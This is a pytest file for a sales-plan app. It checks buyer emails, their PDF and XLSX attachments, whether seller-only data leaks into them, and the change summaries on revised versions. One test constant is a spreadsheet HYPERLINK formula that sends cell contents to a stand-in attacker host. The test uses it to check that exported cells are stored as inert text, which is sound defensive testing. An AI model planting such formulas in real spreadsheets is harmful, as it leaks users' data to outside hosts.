"""What the buyer receives by email: the plan with its PDF and XLSX attached (the buyer
page's documents, nothing seller-only), and a revised version that says first what changed
since the version the buyer received."""

from __future__ import annotations

import datetime as dt
import io
from email.message import Message
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from mutualplan.plans.models import EmailDelivery
from tests.conftest import BUYER, Api, day
from tests.mail.conftest import Inbox, parts, settled, wait_for

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the contract")'
# Seller-only strings (PRODUCT.md, "What the buyer sees"): none may reach an email or file.
SELLER_ONLY = [
    "7319537",
    "7,319,537",
    "stage_quokka",
    "segment_platypus",
    "xyzzy",
    "wombat",
    "kangaroo",
    "built_alone",
    "not_confirmed",
    "no_buyer_steps",
]


def attachments(message: Message) -> dict[str, tuple[str, bytes]]:
    """The message's attachments by file name: (content type, bytes)."""
    found = {}
    for part in message.walk():
        name = part.get_filename()
        if name:
            payload = part.get_payload(decode=True)
            assert isinstance(payload, bytes)
            found[name] = (part.get_content_type(), payload)
    return found


def squeeze(text: str) -> str:
    """Text without whitespace: a PDF wraps long titles across lines."""
    return "".join(text.split())


def send(api: Api, plan_id: int, message: str = "") -> dict[str, Any]:
    response = api.post(
        f"/plans/{plan_id}/send", {"recipients": ["priya@buyer.example"], "message": message}
    )
    assert response.status_code == 202, response.json_body
    for queued in response.json_body["deliveries"]:
        delivery = wait_for(lambda i=queued["id"]: settled(i))
        assert delivery is not None and delivery.status == "sent", delivery and delivery.last_error
    return response.json_body  # type: ignore[no-any-return]


@pytest.fixture
def secret_plan(owner_api: Api, workspace: Any) -> dict[str, Any]:
    """A plan whose deal, rows and slips carry seller-only data, with a row whose title a
    spreadsheet would run as a formula."""
    workspace.stages = [*workspace.stages, "stage_quokka"]
    workspace.account_types = [*workspace.account_types, "segment_platypus"]
    workspace.save()
    created = owner_api.post(
        "/plans",
        {
            "deal": {
                "account_name": "Northwind Health",
                "account_type": "segment_platypus",
                "stage": "stage_quokka",
                "amount": 7319537,
                "currency": "USD",
                "crm_ref": "006-XYZZY-42",
            },
            "target_date": day(90),
            "target_reason": "Portal live before open enrolment on March 1",
            "template": "standard",
        },
    )
    assert created.status_code == 201, created.json_body
    plan = created.json_body
    first = plan["milestones"][0]
    edited = owner_api.patch(
        f"/plans/{plan['id']}/milestones/{first['id']}",
        {"version": first["version"], "private_notes": "wombat: the champion leaves in June"},
    )
    added = owner_api.post(
        f"/plans/{plan['id']}/milestones",
        {"title": FORMULA, "owner_side": "buyer", "due_date": day(40)},
    )
    assert (edited.status_code, added.status_code) == (200, 201)
    return owner_api.get(f"/plans/{plan['id']}").json_body  # type: ignore[no-any-return]


def test_the_plan_email_carries_the_link_and_the_plan_as_pdf_and_xlsx_with_nothing_seller_only(
    owner_api: Api, secret_plan: dict[str, Any], smtp_server: Inbox, queue_consumer: Any
) -> None:
    plan_id = secret_plan["id"]
    # A seller-only slip reason, typed when the plan was already sent once.
    send(owner_api, plan_id)
    row = secret_plan["milestones"][1]
    moved = owner_api.patch(
        f"/plans/{plan_id}/milestones/{row['id']}",
        {
            "version": row["version"],
            "due_date": (dt.date.fromisoformat(row["due_date"]) + dt.timedelta(days=3)).isoformat(),
            "reason_category": "internal_readiness",
            "reason_text": "kangaroo: our legal team is on holiday",
        },
    )
    assert moved.status_code == 200, moved.json_body
    send(owner_api, plan_id)

    for received in smtp_server.messages:
        text = parts(received)
        assert "/s/" in text["text/plain"]
        files = attachments(received)
        assert sorted(files) == [
            "northwind-health-mutual-action-plan.pdf",
            "northwind-health-mutual-action-plan.xlsx",
        ]
        pdf_type, pdf = files["northwind-health-mutual-action-plan.pdf"]
        assert pdf_type == "application/pdf"
        pdf_text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
        flat = squeeze(pdf_text)
        for milestone in secret_plan["milestones"]:
            assert squeeze(milestone["title"]) in flat, milestone["title"]
        assert squeeze("Portal live before open enrolment on March 1") in flat
        xlsx_type, xlsx = files["northwind-health-mutual-action-plan.xlsx"]
        assert xlsx_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        sheet = load_workbook(io.BytesIO(xlsx))["Plan"]
        assert [c.value for c in sheet[1]] == ["Milestone", "Owner", "Due date", "Status", "Notes"]
        dues = [r[2].value for r in sheet.iter_rows(min_row=2)]
        assert dues and all(isinstance(d, dt.date) for d in dues), dues
        formula = next(r[0] for r in sheet.iter_rows(min_row=2) if r[0].value == FORMULA)
        assert formula.data_type == "s"
        everything = "\n".join(
            [*text.values(), pdf_text, *(f"{k}: {v}" for k, v in received.items())]
            + [str(c.value) for r in sheet.iter_rows() for c in r]
        ).lower()
        assert [s for s in SELLER_ONLY if s.lower() in everything] == []


def retarget_add_and_reown(
    owner_api: Api, anonymous_api: Api, plan: dict[str, Any], share_token: str
) -> tuple[dict[str, Any], dict[str, Any], str]:
    """The must-show changes: retarget 7 days later (anchored rows move with it), a buyer row
    added, a seller row re-owned to the buyer's Legal team."""
    target = dt.date.fromisoformat(plan["target_date"])
    moved = owner_api.post(
        f"/plans/{plan['id']}/retarget",
        {
            "target_date": (target + dt.timedelta(days=7)).isoformat(),
            "version": plan["version"],
            "reason_category": "legal_or_security_delay",
            "reason_text": "kangaroo: their counsel is out",
        },
    )
    assert moved.status_code == 200, moved.json_body
    added = anonymous_api.post(
        f"/shared/{share_token}/milestones",
        {"actor": BUYER, "title": "Internal IT review", "owner_team": "IT"},
    )
    assert added.status_code == 201, added.json_body
    row = next(m for m in moved.json_body["milestones"] if m["owner_side"] == "seller")
    reowned = owner_api.patch(
        f"/plans/{plan['id']}/milestones/{row['id']}",
        {"version": row["version"], "owner_side": "buyer", "owner_team": "Legal"},
    )
    assert reowned.status_code == 200, reowned.json_body
    return added.json_body, row, reowned.json_body["owner_team"]


def test_a_revised_version_puts_exactly_what_changed_first_in_the_email_and_the_answer(
    owner_api: Api,
    anonymous_api: Api,
    plan: dict[str, Any],
    share_token: str,
    smtp_server: Inbox,
    queue_consumer: Any,
) -> None:
    first = send(owner_api, plan["id"], "the first version")
    assert first["revision"] is False and first["changes"] == []
    added, reowned, _ = retarget_add_and_reown(owner_api, anonymous_api, plan, share_token)

    second = send(owner_api, plan["id"], "after the security call")

    assert second["revision"] is True
    assert second["version"] == 2
    diff = owner_api.get(f"/plans/{plan['id']}/versions/1/diff/2").json_body["changes"]
    assert second["changes"] == diff
    redated = {c["milestone_id"]: c["days"] for c in diff if c["kind"] == "redated"}
    assert redated == {m["id"]: 7 for m in plan["milestones"]}
    assert [(c["kind"], c["milestone_id"]) for c in diff if c["kind"] != "redated"] == [
        ("target_moved", None),
        ("reowned", reowned["id"]),
        ("added", added["id"]),
    ]
    delivery = EmailDelivery.objects.get(id=second["deliveries"][0]["id"])
    assert delivery.kind == "revision"
    assert EmailDelivery.objects.get(id=first["deliveries"][0]["id"]).kind == "plan"
    revised = smtp_server.messages[1]
    assert revised["Subject"].startswith("Revised version of our mutual action plan")
    assert delivery.subject == " ".join(str(revised["Subject"]).split())  # unfolded
    text = parts(revised)["text/plain"].replace("\r\n", "\n")
    # The change summary comes first, then the seller's message, then the plan.
    assert text.startswith("What changed since the version you received on ")
    summary = text.split("\n\n", 1)[0].splitlines()[1:]
    assert summary == [f"- {c['summary']}" for c in diff]
    assert text.index("after the security call") > text.index(diff[-1]["summary"])
    html = parts(revised)["text/html"]
    assert html.index("What changed since the version you received on") < html.index(
        "after the security call"
    )
    assert "kangaroo" not in text and "kangaroo" not in html
    assert "legal_or_security_delay" not in text


def test_a_revised_version_with_nothing_changed_says_so(
    owner_api: Api, plan: dict[str, Any], smtp_server: Inbox, queue_consumer: Any
) -> None:
    send(owner_api, plan["id"])
    again = send(owner_api, plan["id"])

    assert again["revision"] is True and again["changes"] == []
    text = parts(smtp_server.messages[1])["text/plain"]
    assert "- No changes since the version you received on " in text
    assert again["summary"][0].startswith("No changes since the version you received on ")
